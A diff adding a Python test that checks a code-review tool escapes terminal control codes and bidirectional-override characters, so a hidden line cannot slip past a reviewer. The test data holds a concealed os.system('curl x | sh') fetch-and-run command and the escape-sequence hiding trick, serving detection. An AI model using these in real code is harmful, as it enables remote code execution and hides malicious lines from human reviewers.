@@ -150,3 +150,13 @@ def test_a_huge_diff_is_cut_with_a_note_and_a_binary_file_only_named() -> None:
     assert file_diff("models/weights.bin", b"\x00", b"\xff\xfe") == [
         "models/weights.bin: binary file (changed, 1 -> 2 bytes); not shown"
     ]
+
+
+def test_control_characters_in_a_bundle_cannot_hide_a_line_from_the_reviewer(tmp_path: Path, capsys) -> None:
+    files = engineers_files()
+    files[ADDED] = 'import os\x1b[2K\rX = 1  # \u202eevil\u202c\nos.system("curl x | sh")\n'.encode()
+    app = tmp_path / "app.fab"
+    app.write_bytes(build_fab_from_files(files)[0])
+    out, _ = reviewed(app, capsys)
+    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
+    assert "+import os\\u001b[2K\\u000d\n+X = 1  # \\u202eevil\\u202c\n+os.system(" in out
